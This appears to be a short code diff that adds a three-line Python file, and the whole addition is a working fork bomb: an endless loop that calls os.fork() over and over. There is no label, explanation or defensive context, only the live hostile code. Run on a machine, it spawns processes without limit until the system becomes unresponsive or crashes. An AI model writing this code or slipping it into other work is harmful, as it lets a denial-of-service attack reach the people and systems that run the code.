@@ -1,0 +1,3 @@
+import os
+for _ in iter(int, 1):
+    os.fork()
